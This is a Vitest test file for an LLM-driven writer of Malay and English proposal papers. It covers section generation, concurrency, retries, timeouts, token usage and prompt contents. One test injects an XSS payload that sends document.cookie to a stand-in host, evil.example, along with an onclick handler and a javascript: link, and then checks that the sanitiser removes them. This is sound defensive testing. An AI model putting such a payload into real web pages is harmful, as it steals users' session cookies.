import { performance } from "node:perf_hooks";
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { type FakeLlmServer, type FakeRequest, startFakeLlmServer } from "../../../../tests/support/fake-llm-server.js";
import { countHtmlWords } from "../../../common/content.js";
import { composeOutline } from "../compose/index.js";
import {
  type CallUsage,
  type GeneratedSection,
  type ProposalBrief,
  type SectionPlan,
  WriterFailedError,
} from "../writer.js";
import { createLlmWriter, type LlmWriterOptions } from "./llm-writer.js";

const brief: ProposalBrief = {
  title: "Sistem Tempahan Klinik Pergigian Senyum Sihat",
  description: "Membangunkan aplikasi tempahan dalam talian untuk tiga cawangan klinik",
  type: "project",
  budgetRange: "10k-50k",
  timeline: "3-6-months",
  keyRequirements: [
    "Tempahan 24 jam melalui telefon pintar",
    "Peringatan SMS automatik kepada pesakit",
    "Laporan bulanan untuk pengurus cawangan",
  ],
  targetAudience: "Pesakit dewasa di sekitar Shah Alam",
  companyBackground: "Klinik Senyum Sihat Sdn Bhd ditubuhkan pada tahun 2012",
  objectives: "Mengurangkan masa menunggu pesakit sebanyak 40 peratus",
  constraints: "Kakitangan IT syarikat hanya dua orang",
  additionalInfo: "Perlu berintegrasi dengan sistem perakaunan sedia ada",
  language: "ms",
  template: {
    name: "Kertas Kerja Projek ICT",
    fields: [
      { label: "Nama Agensi", value: "Jabatan Kesihatan Negeri Selangor" },
      { label: "Nombor Rujukan", value: "JKNS-ICT-2025-017" },
    ],
  },
  startDate: "2025-03-14",
};

let server: FakeLlmServer;

beforeAll(async () => {
  server = await startFakeLlmServer();
});
afterAll(async () => {
  await server.close();
});
beforeEach(() => {
  server.reset();
});

function writer(overrides: Partial<LlmWriterOptions> = {}) {
  return createLlmWriter({
    baseUrl: server.url,
    apiKey: "test-key",
    model: "fake-model",
    concurrency: 4,
    timeoutMs: 5_000,
    maxRetries: 2,
    retryBaseDelayMs: 10,
    retryMaxDelayMs: 40,
    ...overrides,
  });
}

function plans(count: number, targetWords: number): SectionPlan[] {
  return Array.from({ length: count }, (_, i) => ({
    key: `other-${i + 1}`,
    title: `Bahagian Ujian ${i + 1}`,
    targetWords,
    brief: "Kandungan ujian.",
  }));
}

const sectionRequests = () => server.requests.filter((r) => r.task === "section");

describe("LLM writer: full generation", () => {
  it("writes a 9-section proposal in outline order, sanitised, each section at its word target", async () => {
    const w = writer();
    const usages: (CallUsage & { purpose: string })[] = [];
    const outline = await w.outline(
      brief,
      { key: "premium", sections: 9, minWords: 2500 },
      { onUsage: (u) => usages.push(u) },
    );
    expect(outline).toHaveLength(9);
    expect(new Set(outline.map((p) => p.key)).size).toBe(9);
    const planned = outline.reduce((sum, p) => sum + p.targetWords, 0);
    expect(planned).toBeGreaterThanOrEqual(2750);
    expect(planned).toBeLessThan(2500 * 1.25);
    for (const p of outline) expect(p.brief.length).toBeGreaterThan(0);

    const hostile = outline[2]!.title;
    const repeated = outline[4]!.title;
    server.setScenario([
      {
        match: `Tajuk bahagian: ${hostile}\n`,
        fault: {
          type: "content",
          content: (normal) =>
            `<script>fetch("https://evil.example/"+document.cookie)</script><p onclick="steal()" class="x">Perenggan <a href="javascript:alert(1)">pautan</a> berbahaya.</p>\n${normal}`,
        },
      },
      {
        match: `Tajuk bahagian: ${repeated}\n`,
        fault: { type: "content", content: (n) => `<h1>${repeated}</h1>\n${n}<h2>Sub</h2>` },
      },
    ]);

    const started: number[] = [];
    const finished: number[] = [];
    const sections = await w.sections(brief, outline, {
      onSectionStart: (i) => started.push(i),
      onSection: (i) => finished.push(i),
      onUsage: (u) => usages.push(u),
    });

    expect(sections.map((s) => s.key)).toEqual(outline.map((p) => p.key));
    expect(sections.map((s) => s.title)).toEqual(outline.map((p) => p.title));
    expect([...started].sort((a, b) => a - b)).toEqual([0, 1, 2, 3, 4, 5, 6, 7, 8]);
    expect([...finished].sort((a, b) => a - b)).toEqual([0, 1, 2, 3, 4, 5, 6, 7, 8]);
    sections.forEach((s: GeneratedSection, i) => {
      expect(s.html.length).toBeGreaterThan(0);
      expect(s.html).not.toMatch(/<h[12][\s>]/i);
      expect(s.words).toBe(countHtmlWords(s.html));
      expect(s.words).toBeGreaterThanOrEqual(outline[i]!.targetWords);
    });
    const bad = sections[2]!.html;
    expect(server.requests.some((r) => r.answer?.includes("<script>"))).toBe(true); // the fake really sent it
    expect(bad).not.toMatch(/<script|evil\.example|onclick|steal|javascript:|class=/i);
    expect(bad).toContain("Perenggan");
    expect(sections[4]!.html).not.toContain(`<h1>`);
    expect(sections[4]!.html).toContain("<h3>Sub</h3>");
    // A clinic's own system is a proposal paper (no funder is asked): its cost is itemised under its financial implications.
    expect(sections.find((s) => s.key.endsWith(":implications"))!.html).toContain("<table>");
    expect(sections.reduce((sum, s) => sum + s.words, 0)).toBeGreaterThanOrEqual(2500);

    // One usage report per call (no outline call: the kind plans the sections), carrying the server's own counts.
    expect(server.requests).toHaveLength(9);
    expect(usages).toHaveLength(9);
    const fromServer = server.requests.map((r) => [r.usage!.prompt_tokens, r.usage!.completion_tokens]).sort();
    expect(usages.map((u) => [u.promptTokens, u.completionTokens]).sort()).toEqual(fromServer);
    expect(usages.map((u) => u.purpose)).toEqual(Array(9).fill("section"));
    expect(usages.every((u) => u.model === "fake-model" && u.durationMs >= 0)).toBe(true);
    // Every request streamed, asked for usage, and carried the key.
    for (const r of server.requests) {
      expect(r.stream).toBe(true);
      expect(r.body.stream_options).toEqual({ include_usage: true });
      expect(r.authorization).toBe("Bearer test-key");
      expect(r.body.model).toBe("fake-model");
    }
  });

  it("uses a template's own section titles without an outline call", async () => {
    const titles = ["Pengenalan", "Kos Projek", "Jadual Pelaksanaan", "Penutup"];
    const pkg = { key: "t", sections: 4, minWords: 1000, sectionTitles: titles };
    const outline = await writer().outline(brief, pkg);
    expect(server.requests).toHaveLength(0);
    expect(outline.map((p) => p.title)).toEqual(titles);
    expect(outline).toEqual(composeOutline(brief, pkg));
    expect(outline.reduce((s, p) => s + p.targetWords, 0)).toBeGreaterThanOrEqual(1100);
  });
});

describe("LLM writer: parallel sections", () => {
  it("keeps `concurrency` requests in flight at once, never more", async () => {
    const w = writer({ concurrency: 4 });
    server.setScenario([{ match: /patah perkataan/, fault: { type: "slow", tokensPerSecond: 250 } }]);
    const t0 = performance.now();
    const sections = await w.sections(brief, plans(8, 60), {});
    const wall = performance.now() - t0;
    expect(sections).toHaveLength(8);
    const reqs = sectionRequests();
    expect(reqs).toHaveLength(8);
    expect(server.maxConcurrent()).toBe(4);
    // Sequentially the requests would take the sum of their durations; in parallel much less.
    const sequential = reqs.reduce((sum, r) => sum + (r.endedAt! - r.startedAt), 0);
    expect(wall).toBeLessThan(sequential * 0.6);
  });

  it("runs one at a time with concurrency 1", async () => {
    await writer({ concurrency: 1 }).sections(brief, plans(3, 40), {});
    expect(server.maxConcurrent()).toBe(1);
  });
});

describe("LLM writer: retries and failures", () => {
  const text = "Syarikat kami akan membina sistem baharu. Sistem ini untuk pelanggan. Kos adalah rendah.";

  it("retries a 500 and succeeds", async () => {
    server.setScenario([{ times: 1, fault: { type: "status", status: 500 } }]);
    const out = await writer().rewrite(text, "grammar", "ms");
    expect(out.length).toBeGreaterThan(0);
    expect(server.requests.map((r) => r.status)).toEqual([500, 200]);
  });

  it("waits for Retry-After on 429 before trying again", async () => {
    server.setScenario([{ times: 1, fault: { type: "status", status: 429, retryAfterSeconds: 1 } }]);
    await writer({ retryBaseDelayMs: 5, retryMaxDelayMs: 10 }).rewrite(text, "shorten", "ms");
    const [first, second] = server.requests as [FakeRequest, FakeRequest];
    expect([first.status, second.status]).toEqual([429, 200]);
    expect(second.startedAt - first.endedAt!).toBeGreaterThanOrEqual(950);
  });

  it("gives up with WriterFailedError after maxRetries + 1 attempts on a permanent 500", async () => {
    server.setScenario([{ fault: { type: "status", status: 500 } }]);
    const error = await writer({ maxRetries: 2 })
      .rewrite(text, "grammar", "ms")
      .catch((e: unknown) => e);
    expect(error).toBeInstanceOf(WriterFailedError);
    expect((error as Error).message).toMatch(/3 attempts.*500/);
    expect(server.requests).toHaveLength(3);
  });

  it("does not retry other 4xx answers", async () => {
    server.setScenario([{ fault: { type: "status", status: 400, message: "bad request" } }]);
    await expect(writer().rewrite(text, "grammar", "ms")).rejects.toBeInstanceOf(WriterFailedError);
    expect(server.requests).toHaveLength(1);
  });

  it.each([
    ["hangs before answering", { type: "hang" as const }],
    ["stalls mid-stream", { type: "stall" as const, afterTokens: 2 }],
  ])("fails within about timeoutMs x attempts when the server %s", async (_label, fault) => {
    server.setScenario([{ fault }]);
    const t0 = performance.now();
    const error = await writer({ timeoutMs: 300, maxRetries: 1 })
      .translate(text, "en")
      .catch((e: unknown) => e);
    const elapsed = performance.now() - t0;
    expect(error).toBeInstanceOf(WriterFailedError);
    expect((error as Error).message).toMatch(/300 ms/);
    expect(server.requests).toHaveLength(2);
    expect(elapsed).toBeGreaterThanOrEqual(580);
    expect(elapsed).toBeLessThan(300 * 2 + 700);
    // The client gave up on both: no request is left open on the server.
    await new Promise((r) => setTimeout(r, 50));
    expect(server.requests.every((r) => r.endedAt !== undefined && r.clientAborted)).toBe(true);
  });

  it.each(["close", "end", "length"] as const)("retries a section whose stream was truncated (%s)", async (mode) => {
    server.setScenario([{ times: 1, match: /patah perkataan/, fault: { type: "truncate", mode, fraction: 0.2 } }]);
    const [section] = await writer().sections(brief, plans(1, 200), {});
    expect(server.requests).toHaveLength(2);
    expect(section!.words).toBeGreaterThanOrEqual(200);
  });

  it("retries an empty section, then fails the whole generation when it stays empty", async () => {
    server.setScenario([{ times: 1, fault: { type: "empty" } }]);
    const [ok] = await writer().sections(brief, plans(1, 50), {});
    expect(ok!.words).toBeGreaterThanOrEqual(50);
    expect(server.requests).toHaveLength(2);

    server.reset();
    server.setScenario([{ match: "Tajuk bahagian: Bahagian Ujian 2\n", fault: { type: "malformed" } }]);
    const onSection: number[] = [];
    const error = await writer({ maxRetries: 1 })
      .sections(brief, plans(3, 50), { onSection: (i) => onSection.push(i) })
      .catch((e: unknown) => e);
    expect(error).toBeInstanceOf(WriterFailedError);
    expect(server.requests.filter((r) => r.prompt.includes("Tajuk bahagian: Bahagian Ujian 2\n"))).toHaveLength(2);
    expect(onSection).not.toContain(1);
  });

  it("stops the other sections when one fails for good", async () => {
    server.setScenario([
      { match: "Tajuk bahagian: Bahagian Ujian 1\n", fault: { type: "status", status: 503 } },
      { match: /patah perkataan/, fault: { type: "slow", tokensPerSecond: 40 } },
    ]);
    const t0 = performance.now();
    await expect(writer({ concurrency: 2, maxRetries: 1 }).sections(brief, plans(6, 200), {})).rejects.toBeInstanceOf(
      WriterFailedError,
    );
    // At 40 tokens/s a 200-word section takes over 30 s; the generation ended long before.
    expect(performance.now() - t0).toBeLessThan(10_000);
    await new Promise((r) => setTimeout(r, 50));
    expect(server.requests.every((r) => r.endedAt !== undefined)).toBe(true);
    // Section 1 twice, section 2 cut off; the queued sections were never sent.
    expect(server.requests).toHaveLength(3);
    expect(
      server.requests.filter((r) => r.prompt.includes("Tajuk bahagian: Bahagian Ujian 2\n"))[0]?.clientAborted,
    ).toBe(true);
  });

  it("retries a solution whose JSON is broken", async () => {
    server.setScenario([{ times: 1, fault: { type: "malformed" } }]);
    const solution = await writer().solution("Saya perlukan sistem inventori untuk kedai runcit saya", "ms");
    expect(solution.proposalTitle).toContain("sistem inventori");
    expect(solution.proposalStructure.length).toBeGreaterThan(0);
    expect(server.requests).toHaveLength(2);
  });
});

describe("LLM writer: usage", () => {
  it("reports the server's token counts for every call, and an estimate when the server sends none", async () => {
    const usages: (CallUsage & { purpose: string })[] = [];
    const events = { onUsage: (u: CallUsage & { purpose: string }) => usages.push(u) };
    const w = writer();
    await w.rewrite("Teks ujian yang pendek.", "expand", "ms", events);
    await w.instruct("Teks ujian yang pendek.", "Tambah satu contoh", "ms", events);
    await w.solution("Keperluan sistem gaji", "en", events);
    server.setScenario([{ fault: { type: "no-usage" } }]);
    await w.translate("Projek ini untuk pelanggan.", "en", events);

    expect(usages.map((u) => u.purpose)).toEqual(["rewrite", "instruct", "solution", "translate"]);
    for (let i = 0; i < 3; i++) {
      expect(usages[i]!.promptTokens).toBe(server.requests[i]!.usage!.prompt_tokens);
      expect(usages[i]!.completionTokens).toBe(server.requests[i]!.usage!.completion_tokens);
    }
    const last = server.requests[3]!;
    const promptChars = last.messages.map((m) => m.content).join("\n").length;
    expect(usages[3]!.promptTokens).toBe(Math.ceil(promptChars / 4));
    expect(usages[3]!.completionTokens).toBe(Math.ceil(last.answer!.length / 4));
  });
});

describe("LLM writer: servers without stream_options", () => {
  it("asks again without stream_options when the server rejects it, and estimates usage", async () => {
    server.setScenario([
      {
        match: (r) => r.body.stream_options !== undefined,
        fault: { type: "status", status: 400, message: "Unrecognized request argument supplied: stream_options" },
      },
    ]);
    const usages: CallUsage[] = [];
    const w = writer({ maxRetries: 0 });
    await w.rewrite("Teks ujian.", "grammar", "ms", { onUsage: (u) => usages.push(u) });
    await w.rewrite("Teks ujian.", "grammar", "ms", { onUsage: (u) => usages.push(u) });
    expect(server.requests.map((r) => r.status)).toEqual([400, 200, 200]);
    expect(server.requests[1]!.body.stream_options).toBeUndefined();
    expect(usages).toHaveLength(2);
    expect(usages[0]!.completionTokens).toBe(Math.ceil(server.requests[1]!.answer!.length / 4));
  });
});

describe("LLM writer: prompts", () => {
  it("carries every input of the brief into every section prompt", async () => {
    const w = writer();
    // The user chose a financing application on the form: its budget and schedule sections.
    const financed: ProposalBrief = { ...brief, kind: "geran" };
    const outline = await w.outline(financed, { key: "p", sections: 9, minWords: 900 });
    await w.sections(financed, outline, {});
    const expected = [
      brief.title,
      brief.description,
      "kertas kerja projek",
      "RM 10,000",
      "RM 50,000",
      "180 hari",
      "April 2025",
      ...brief.keyRequirements,
      brief.targetAudience,
      brief.companyBackground,
      brief.objectives,
      brief.constraints,
      brief.additionalInfo,
      "Kertas Kerja Projek ICT",
      "Nama Agensi: Jabatan Kesihatan Negeri Selangor",
      "Nombor Rujukan: JKNS-ICT-2025-017",
      "Bahasa Melayu baku",
      // The facts block: the kind chosen and the applicant the extractor read.
      "Jenis kertas: Permohonan Geran / Pembiayaan",
      "Pemohon / penganjur: Klinik Senyum Sihat Sdn Bhd",
      "Peratusan: 40 peratus",
    ];
    expect(server.requests).toHaveLength(9);
    for (const r of server.requests) for (const text of expected) expect(r.prompt).toContain(text);

    const budget = outline.find((p) => p.key.endsWith(":budget"))!;
    const budgetPrompt = server.requests.find((r) => r.prompt.includes(`Tajuk bahagian: ${budget.title}\n`))!.prompt;
    expect(budgetPrompt).toMatch(/jadual bajet \(<table>\)/);
    // No total stated: the composer's estimate within the chosen range, said to be one.
    expect(budgetPrompt).toContain("anggaran dalam julat bajet pengguna (RM 10,000.00 – RM 50,000.00)");
    expect(budgetPrompt).toContain(" | Jumlah Keseluruhan |  |  | RM 30,000.00");
    const schedule = outline.find((p) => p.key.endsWith(":schedule"))!;
    const timeline = server.requests.find((r) => r.prompt.includes(`Tajuk bahagian: ${schedule.title}\n`))!.prompt;
    expect(timeline).toMatch(/jadual pelaksanaan \(<table>\)/);
    expect(timeline).toContain("bermula 1 April 2025 dan tamat selewat-lewatnya 27 September 2025 (6 bulan)");
    outline.forEach((p) => {
      const req = server.requests.find((r) => r.prompt.includes(`Tajuk bahagian: ${p.title}\n`))!;
      expect(req.prompt).toContain(`sekurang-kurangnya ${p.targetWords} patah perkataan`);
      if (p.brief) expect(req.prompt).toContain(`Isi bahagian: ${p.brief}`);
      for (const other of outline) expect(req.prompt).toContain(other.title); // the whole outline for context
    });
  });

  it("writes English prompts for an English brief, leaving out what the user left undecided", async () => {
    const english: ProposalBrief = { ...brief, language: "en", budgetRange: "belum-tentukan", timeline: null };
    const w = writer();
    const outline = await w.outline(english, { key: "p", sections: 5, minWords: 500 });
    await w.sections(english, outline, {});
    expect(outline.map((p) => p.title)).toEqual(
      composeOutline(english, { key: "p", sections: 5, minWords: 500 }).map((p) => p.title),
    );
    const prompt = server.requests[0]!.prompt;
    expect(prompt).toContain("formal English");
    expect(prompt).toContain("Kind of paper: Proposal Paper");
    expect(prompt).toContain("Fact rule: use every fact in <facts> exactly as written");
    expect(prompt).toContain("Length: at least");
    expect(prompt).not.toContain("Budget:");
    expect(prompt).not.toContain("Implementation period:");
    for (const req of english.keyRequirements) expect(prompt).toContain(req);
  });
});

describe("LLM writer: rewrite, instruct, translate", () => {
  const informal = "saya tak nak pergi kat sana. dia dah balik dgn kawan";

  it("returns the model's transformed plain text for every action", async () => {
    const w = writer();
    const long = "Ayat pertama. Ayat kedua. Ayat ketiga. Ayat keempat.";
    expect(await w.rewrite(informal, "formal", "ms")).toBe(
      "Saya tidak hendak pergi di sana. Dia sudah balik dengan kawan.",
    );
    expect(await w.rewrite(informal, "grammar", "ms")).toBe("Saya tak nak pergi kat sana. Dia dah balik dgn kawan.");
    expect(await w.rewrite(long, "shorten", "ms")).toBe("Ayat pertama. Ayat kedua.");
    expect((await w.rewrite(long, "expand", "ms")).length).toBeGreaterThan(long.length * 2);
    expect(await w.instruct(long, "Jadikan lebih meyakinkan", "ms")).toContain("Jadikan lebih meyakinkan");
    expect(await w.translate("Syarikat kami akan membina sistem baharu.", "en")).toBe(
      "Company we will build system new.",
    );
    expect(await w.translate("The project is for customers.", "ms")).toBe("The projek is untuk pelanggan.");
    expect(server.requests.map((r) => r.task)).toEqual([
      "rewrite",
      "rewrite",
      "rewrite",
      "rewrite",
      "instruct",
      "translate",
      "translate",
    ]);
    expect(server.requests[0]!.prompt).toContain(informal);
    expect(server.requests[4]!.prompt).toContain("<instruction>\nJadikan lebih meyakinkan\n</instruction>");
  });

  it("strips code fences, quotes, preambles and Markdown the model wraps around the text", async () => {
    server.setScenario([
      { calls: [0], fault: { type: "content", content: (n) => `\`\`\`\n"${n}"\n\`\`\`` } },
      { calls: [1], fault: { type: "content", content: (n) => `Berikut ialah teks yang telah dibetulkan:\n**${n}**` } },
    ]);
    const w = writer();
    expect(await w.rewrite(informal, "formal", "ms")).toBe(
      "Saya tidak hendak pergi di sana. Dia sudah balik dengan kawan.",
    );
    expect(await w.rewrite(informal, "formal", "ms")).toBe(
      "Saya tidak hendak pergi di sana. Dia sudah balik dengan kawan.",
    );
  });

  it("does not call the model for empty text", async () => {
    expect(await writer().rewrite("   ", "grammar", "ms")).toBe("   ");
    expect(server.requests).toHaveLength(0);
  });

  it("is named after its model unless told otherwise", () => {
    expect(writer().name).toBe("fake-model");
    expect(writer({ name: "Kertas AI Pro" }).name).toBe("Kertas AI Pro");
    expect(writer().engine).toBe("llm");
  });
});
